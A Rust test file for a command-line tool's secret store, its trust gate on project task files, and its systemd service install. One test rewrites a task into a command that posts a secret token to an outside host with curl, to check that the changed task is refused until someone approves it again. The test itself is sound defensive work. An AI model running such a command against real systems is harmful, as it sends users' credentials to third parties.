//! Secrets, what a project's files may run, and the service in the background: on the command line.

use serde_json::Value;

use crate::program::Place;

const CALLS: &str = r#"
[task.tell]
shell   = ["sh", "-c", "echo told $TOKEN; test $TOKEN = hunter2hunter2"]
secrets = { TOKEN = "chat-token" }
"#;

/// Returns a place whose project has a DAG that runs a program with a secret.
fn place() -> Place {
    let place = Place::with_project("name,price\nAda Lovelace,1\n", "");
    std::fs::create_dir_all(place.path("shop/dags")).unwrap();
    place.write("shop/dags/tell.toml", CALLS);
    place
}

/// Returns the arguments' answer without a keychain, which a machine of tests may have.
fn run(place: &Place, arguments: &[&str], input: &str) -> crate::program::Ended {
    let mut command = place.command("shop", arguments);
    command.env("MILLPOND_KEYCHAIN", "off");
    let file = place.path("input.txt");
    std::fs::write(&file, input).unwrap();
    command.stdin(std::fs::File::open(file).unwrap());
    crate::program::ended(command.output().unwrap())
}

#[test]
fn a_secret_is_kept_for_its_project_and_never_shown() {
    let place = place();
    let missing = run(&place, &["secret", "check"], "");
    assert_eq!(missing.code, 1, "{missing:?}");
    assert!(missing.stderr.contains("chat-token is not there (named by dags/tell.toml, task tell)"), "{missing:?}");

    let kept = run(&place, &["secret", "set", "chat-token"], "hunter2hunter2\n");
    assert!(kept.code == 0 && kept.stderr.contains("which only you can read (there is no keychain)"), "{kept:?}");
    let listed = run(&place, &["secret", "list", "--json"], "");
    assert_eq!(listed.json()[0]["used_by"], serde_json::json!(["dags/tell.toml, task tell"]));
    assert_eq!(run(&place, &["secret", "check"], "").code, 0);
    for said in [&kept, &listed, &run(&place, &["secret", "list"], "")] {
        assert!(!said.stdout.contains("hunter2") && !said.stderr.contains("hunter2"), "{said:?}");
    }

    let refused = run(&place, &["secret", "set", "no/name"], "x");
    assert!(refused.code != 0 && refused.stderr.contains("is no name of a secret"), "{refused:?}");
    assert_eq!(run(&place, &["secret", "remove", "chat-token"], "").code, 0);
    assert_eq!(run(&place, &["secret", "check"], "").code, 1);
    assert_ne!(run(&place, &["secret", "remove", "chat-token"], "").code, 0);
}

#[test]
fn nothing_of_a_folder_runs_that_nobody_agreed_to_and_a_change_is_asked_for_again() {
    let place = place();
    run(&place, &["secret", "set", "chat-token"], "hunter2hunter2");
    for arguments in [["dag", "trigger", "tell"], ["dag", "enable", "tell"]] {
        let refused = run(&place, &arguments, "");
        assert_ne!(refused.code, 0);
        assert!(refused.stderr.contains("dags/tell.toml, task tell: nobody agreed on this machine to what it runs"), "{refused:?}");
    }
    // Without a terminal nobody can say yes.
    let shown = run(&place, &["trust"], "");
    assert_eq!(shown.code, 1);
    assert!(shown.stderr.contains(r#"  + secrets.TOKEN = "chat-token""#) && shown.stderr.contains("1 task to agree to."), "{shown:?}");
    let agreed = run(&place, &["trust", "--yes"], "");
    assert!(agreed.code == 0 && agreed.stderr.contains("Agreed."), "{agreed:?}");

    let ran = run(&place, &["dag", "trigger", "tell", "--json"], "");
    assert_eq!(ran.code, 0, "{ran:?}");
    let log = run(&place, &["dag", "logs", "tell", "tell"], "");
    assert!(log.stdout.contains("told •••") && !log.stdout.contains("hunter2"), "{log:?}");

    place.write("shop/dags/tell.toml", &CALLS.replace("echo told", "curl -d @- example.org <<<"));
    let trust: Value = run(&place, &["trust", "--json"], "").json();
    let before = trust["entries"][0]["before"].as_str().unwrap();
    assert!(trust["trusted"] == false && before.contains("echo told $TOKEN"), "{trust}");
    assert!(run(&place, &["dag", "trigger", "tell"], "").stderr.contains("nobody agreed"));
    // The text that was agreed to is still agreed to.
    place.write("shop/dags/tell.toml", CALLS);
    assert_eq!(run(&place, &["trust"], "").code, 0);
}

#[cfg(target_os = "linux")]
#[test]
fn a_service_is_written_as_systemd_reads_it_and_removed_again() {
    let place = Place::with_project("name,price\nAda Lovelace,1\n", "");
    std::fs::rename(place.path("shop"), place.path("my shop 100%")).unwrap();
    let run = |arguments: &[&str]| {
        let mut command = place.command("my shop 100%", arguments);
        crate::program::ended(command.env("XDG_CONFIG_HOME", place.path("config")).output().unwrap())
    };
    assert_eq!(run(&["service", "status"]).code, 1);
    let installed = run(&["service", "install", "--no-start", "--port", "8099", "--json"]);
    assert_eq!(installed.code, 0, "{installed:?}");
    let file = installed.json()["file"].as_str().unwrap().to_owned();
    assert!(file.ends_with("my\\x20shop\\x20100\\x25.service"), "{file}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), run(&["service", "show", "--port", "8099"]).stdout);
    // Where systemd is installed, it says itself whether it can read the unit.
    if let Ok(verified) = std::process::Command::new("systemd-analyze").args(["verify", "--user", "--man=no", &file]).output() {
        let said = String::from_utf8_lossy(&verified.stderr);
        assert!(!said.contains(&file) && !said.contains("Invalid") && !said.contains("not executable"), "{said}");
    }
    assert_eq!((run(&["service", "status"]).code, run(&["service", "remove"]).code), (0, 0));
    assert!(!std::path::Path::new(&file).exists());
    assert_ne!(run(&["service", "remove"]).code, 0);
}
